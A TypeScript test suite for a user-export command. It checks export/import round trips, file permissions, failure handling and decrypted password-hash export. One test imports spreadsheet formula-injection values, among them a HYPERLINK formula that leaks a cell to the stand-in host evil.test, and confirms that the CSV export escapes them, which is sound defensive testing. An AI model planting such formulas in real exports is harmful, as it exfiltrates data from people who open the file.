/** Export: its output, and that an import restores the same users. */
import assert from 'node:assert/strict'
import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { suite, test } from 'node:test'

import { parse } from 'csv-parse/sync'

import { configuredEncryption } from '../../../plugins/security/encryption/index.ts'
import { query } from '../../db/sql.ts'
import { testConfig } from '../../support/config.ts'
import { cloneDatabase } from '../../support/database.ts'
import { temporaryFolder } from '../../support/processes/temporary-folder.ts'
import {
  listAllUsers,
  passwordHash,
  startUsers,
  users,
  various,
  writeImportFile,
} from './command.ts'

suite('users export', () => {
  for (const format of ['ndjson', 'csv']) {
    test(`exports as ${format} and restores by import in another database`, async (t) => {
      const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
      const folder = temporaryFolder(t, 'export')
      await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', various))
      const file = join(folder, `users.${format}`)
      await writeFile(file, 'left by a user', { mode: 0o644 })
      await writeFile(`${file}.part`, 'left by an export that was killed')
      assert.match((await users(from.url, 'export', file)).stderr, /^6 exported/)
      assert.equal((await stat(file)).mode & 0o777, 0o600)
      const { stdout } = await users(to.url, 'import', file)
      assert.match(stdout, /^6 imported, 0 rejected/)
      await assert.rejects(stat(`${file}.refused.ndjson`), { code: 'ENOENT' })
      const brought = await listAllUsers(to.url)
      assert.deepEqual(brought, await listAllUsers(from.url))
      const identities = brought.map(({ identities }) => JSON.stringify(identities))
      assert.ok(
        identities.some((text) => text.includes('2021-02-03T04:05:06.789')),
        'and as old',
      )
    })
  }

  test('escapes spreadsheet formulas in CSV and restores them', async (t) => {
    const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
    const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
    const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
    await users(from.url, 'import', await writeImportFile(t, 'users.ndjson', rows))
    const file = join(temporaryFolder(t, 'export'), 'users.csv')
    await users(from.url, 'export', file)

    const cells: string[][] = parse(await readFile(file))
    assert.deepEqual(
      cells.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell)),
      [],
    )
    await users(to.url, 'import', file)
    assert.deepEqual(await listAllUsers(to.url), await listAllUsers(from.url))
  })

  test('exports a decrypted password hash', async (t) => {
    const { url } = await cloneDatabase(t)
    const encryption = configuredEncryption(testConfig(), { isShared: false })
    const id = crypto.randomUUID()
    await query(url, {
      text: 'insert into auth.users (id, email, encrypted_password) values ($1, $2, $3)',
      values: [id, 'ann@example.com', encryption.encrypt(id, passwordHash)],
    })
    const file = join(temporaryFolder(t, 'export'), 'users.ndjson')
    await users(url, 'export', file)
    assert.equal(JSON.parse(await readFile(file, 'utf8')).password_hash, passwordHash)
  })

  test('keeps the previous file when an export fails', async (t) => {
    const folder = temporaryFolder(t, 'export')
    const file = join(folder, 'users.ndjson')
    await writeFile(file, 'of yesterday')
    const { code, stderr } = await users('postgres://nobody@127.0.0.1:1/none', 'export', file)
    assert.equal(code, 1, stderr)
    assert.equal(await readFile(file, 'utf8'), 'of yesterday')
    assert.deepEqual(await readdir(folder), ['users.ndjson'])
  })

  test('writes to a device without replacing it', async (t) => {
    const { url } = await cloneDatabase(t)
    const file = join(temporaryFolder(t, 'export'), 'users.csv')
    await symlink('/dev/null', file)
    const { code, stderr } = await users(url, 'export', file)
    assert.equal(code, 0, stderr)
    assert.ok((await stat(file)).isCharacterDevice())
  })

  test('writes to standard output without a file', async (t) => {
    const { url } = await cloneDatabase(t)
    await users(url, 'import', await writeImportFile(t, 'users.ndjson', various))
    const { written, ended } = startUsers(t, url, 'export', '--format', 'csv')
    await ended
    assert.match(written.out, /^id,aud,role,email/)
    assert.equal(written.out.trim().split('\n').length, 7)
  })
})
